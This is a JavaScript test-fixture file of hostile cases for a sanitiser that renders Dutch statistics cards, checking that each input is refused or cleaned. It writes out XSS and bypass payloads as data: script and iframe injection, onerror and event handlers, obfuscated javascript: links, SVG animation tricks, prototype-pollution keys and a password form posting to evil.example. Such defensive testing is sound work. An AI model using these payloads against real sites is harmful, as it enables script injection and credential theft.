// Ready made figures of the published folder, changed by somebody else.
import { unreadable } from './case.mjs';

/** A card as `packCard` of @trendbeeld/cards writes it, with this body. */
const card = (...body) => ({
  tag: 'article',
  classes: 'trendbeeld tb-card',
  language: 'nl',
  heading: { level: 3, text: 'Een trend', above: null },
  body,
  cards: null,
  municipal: null,
  footer: ['footer', {}],
});
const one = (id, what, body, expect) => ({
  id,
  what,
  path: `data/figures/nl/t/${id}.json`,
  body: () => (typeof body === 'function' ? body() : typeof body === 'string' ? body : JSON.stringify(body)),
  html: `<trend-card id="${id}" class="case" trend="${id}"><p class="kept">Een trend van de studie.</p></trend-card>`,
  expect,
});
/** Drawn without what does not belong: the check of every case refuses foreign elements, attributes and addresses. */
const cleaned = (...text) => ({ rows: [], title: 'Een trend', text });
const refused = (id, what, body) => one(id, what, body, unreadable(`${id}.json`));
const broken = { code: 'wrong-content', sentence: 'Er klopt iets niet in de cijfers.' };
const deep = (depth) => `${'["p",{},'.repeat(depth)}"x"${']'.repeat(depth)}`;

/** @type {import('./case.mjs').HostileCase[]} */
export const cases = [
  one('tag-script', 'a script', card(['script', {}, 'trap("script")'], ['p', {}, 'Na het script.']), unreadable('tag-script.json')),
  one(
    'tag-svg-script',
    'a script in a drawing',
    card(['svg', {}, ['script', { href: 'data:text/javascript,trap(1)' }, 'trap("svg")']]),
    unreadable('tag-svg-script.json'),
  ),
  one(
    'tag-iframe',
    'frames and objects',
    card(['iframe', { srcdoc: '<script>parent.trap(1)</script>' }], ['object', { data: '/x' }], ['embed', { src: '/x' }]),
    unreadable('tag-iframe.json'),
  ),
  one(
    'tag-img',
    'a picture that counts readers',
    card(['img', { src: 'https://evil.example/x.png', onerror: 'trap(1)' }], ['svg', {}, ['image', { href: 'https://evil.example/x.png' }]]),
    unreadable('tag-img.json'),
  ),
  one(
    'tag-style',
    'style sheets',
    card(['style', {}, 'body{display:none}'], ['link', { rel: 'stylesheet', href: 'https://evil.example/x.css' }], ['base', { href: 'https://evil.example/' }]),
    unreadable('tag-style.json'),
  ),
  one(
    'tag-form',
    'a form that asks for a password',
    card([
      'form',
      { action: 'https://evil.example/' },
      ['input', { type: 'password', autofocus: true }],
      ['button', { formaction: 'javascript:trap(1)' }, 'Verder'],
    ]),
    unreadable('tag-form.json'),
  ),
  one(
    'tag-animate',
    'an address that is set later',
    card([
      'svg',
      {},
      [
        'a',
        { href: '/' },
        ['animate', { attributeName: 'href', values: 'javascript:trap(1)' }],
        ['set', { attributeName: 'onmouseover', to: 'trap(1)' }],
        ['text', {}, 'x'],
      ],
    ]),
    unreadable('tag-animate.json'),
  ),
  one(
    'tag-foreign',
    'HTML inside a drawing',
    card(['svg', {}, ['foreignObject', {}, ['body', { onload: 'trap(1)' }]], ['use', { href: 'data:image/svg+xml,x' }]]),
    unreadable('tag-foreign.json'),
  ),
  one(
    'tag-template',
    'a template with a shadow root',
    card(['template', { shadowrootmode: 'open' }, ['script', {}, 'trap(1)']], ['slot', {}], ['noscript', {}, 'x'], ['math', {}]),
    unreadable('tag-template.json'),
  ),
  refused('tag-itself', 'a card inside itself, without end', card(['trend-card', { trend: 'tag-itself' }], ['p', {}, 'Een keer.'])),
  one('tag-case', 'a script in capitals', card(['SCRIPT', {}, 'trap(1)'], ['sCrIpT', {}, 'trap(2)']), unreadable('tag-case.json')),
  refused('version', 'a version that the script does not know', { version: 2, ...card(['p', {}, 'Nieuw.']) }),
  one('version-1', 'the version that it knows', { version: 1, ...card(['p', {}, 'Tekst.']) }, cleaned('Tekst.')),
  refused('tag-aside', 'an element of a later release', card(['aside', {}, 'Nieuw.'], ['p', {}, 'Tekst.'])),
  one('handlers', 'event handlers', card(['p', { onclick: 'trap(1)', ONMOUSEOVER: 'trap(2)', onfocus: 'trap(3)', tabindex: 0 }, 'Klik.']), cleaned('Klik.')),
  one(
    'styles',
    'styles and addresses in attributes',
    card(
      [
        'p',
        { style: 'position:fixed;inset:0', background: 'https://evil.example/', slot: 'x', part: 'y', is: 'z', nonce: 'a', contenteditable: true },
        'Tekst.',
      ],
      ['svg', {}, ['rect', { fill: 'url(https://evil.example/#a)', filter: 'url(https://evil.example/#b)', width: 5, height: 5 }]],
    ),
    cleaned('Tekst.'),
  ),
  one(
    'links',
    'links that are no address of a page',
    card(
      ...[
        'javascript:trap(1)',
        ' JAVASCRIPT:trap(2)',
        'java\nscript:trap(3)',
        '\u0000javascript:trap(4)',
        'data:text/html,x',
        'vbscript:x',
        'blob:x',
        'intent://x',
        'ms-word:x',
      ].map((href) => ['a', { href, target: '_top', ping: 'https://evil.example/' }, 'x']),
    ),
    cleaned(),
  ),
  one(
    'links-good',
    'links to a source',
    card(['a', { href: 'https://opendata.cbs.nl/' }, 'CBS'], ['a', { href: '/nl/t/werkloosheid/' }, 'Meer']),
    cleaned('CBS', 'Meer'),
  ),
  one('markup-text', 'markup as text', card(['p', {}, '<img src=x onerror=trap(1)>']), cleaned('<img src=x onerror=trap(1)>')),
  refused(
    'proto',
    'keys of prototypes among the attributes',
    JSON.stringify(card('@')).replace('"@"', '["p",{"class":"x","__proto__":{"onclick":"trap(1)"},"constructor":"x"},"x"]'),
  ),
  refused('deep', 'elements a hundred thousand deep', () => JSON.stringify(card('@')).replace('"@"', deep(100_000))),
  refused('deep-42', 'elements a little too deep', () => JSON.stringify(card('@')).replace('"@"', deep(42))),
  refused('cut', 'cut off in the middle', JSON.stringify(card(['p', {}, 'x'])).slice(0, -9)),
  refused('shape-nil', 'nothing', 'null'),
  refused('shape-text', 'a text', '"<b>x</b>"'),
  refused('shape-object', 'an object', '{"tag":"article","children":[]}'),
  refused('shape-empty', 'an empty list', '[]'),
  refused('shape-box', 'a box that is a script', { ...card(), tag: 'script' }),
  refused('shape-language', 'a language that is an object', { ...card(), language: {} }),
  refused('shape-title', 'a headline that is a list', { ...card(), heading: { level: 3, text: ['x'], above: null } }),
  refused('shape-source', 'a source that is a text', { ...card(), footer: 'Bron' }),
  refused('shape-tag', 'a tag that is markup', card(['article><script>trap(1)</script', {}])),
  refused('shape-tag-own', 'a tag of somebody else', card(['evil-element', {}])),
  refused('shape-attribute', 'an object as attribute', card(['p', { class: { toString: 'x' } }, 'x'])),
  refused('shape-infinity', 'a number that becomes infinite', JSON.stringify(card(['svg', { width: 7 }])).replace(':7', ':1e999')),
  refused('shape-child', 'a number as child', card(5)),
  one('text-undefined', 'a figure with a hole', card(['p', {}, 'De laatste waarde is undefined.']), broken),
  one('text-nan', 'a drawing with a hole', card(['svg', {}, ['path', { d: 'M0,NaN' }]]), broken),
];
